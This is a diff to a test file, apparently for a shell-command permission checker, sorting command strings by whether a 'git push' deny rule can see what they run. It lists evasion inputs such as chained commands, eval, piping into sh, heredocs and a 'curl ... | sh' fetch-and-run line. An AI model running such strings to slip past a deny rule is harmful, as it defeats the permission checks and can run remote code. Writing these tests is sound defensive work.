@@ -62,6 +62,9 @@ const VISIBLE = [
   "; /usr/bin/git push",
   "; git push 'unterminated",
   "; gi\\\nt pu\\\nsh",
+  // a script a shell reads from stdin, when the line holds it (deny-through.test.ts has more)
+  "; echo git push | sh",
+  "\nbash <<EOF\ngit push\nEOF",
 ];
 // Where the analysis cannot see what runs: never covered, the deny cannot decide, the card says so.
 const HIDDEN = [
@@ -70,9 +73,9 @@ const HIDDEN = [
   "; `echo git` push",
   '; eval "$CMD"',
   '; bash -c "$X"',
-  "; echo git push | sh",
+  "; curl -s https://example.com/x | sh",
   "; echo 'import os' | python3",
-  "\nbash <<EOF\ngit push\nEOF",
+  "\nbash <<EOF\n$CMD\nEOF",
   "; source ./x.sh",
   "; alias t='git push'",
   "; PATH=./bin git status",
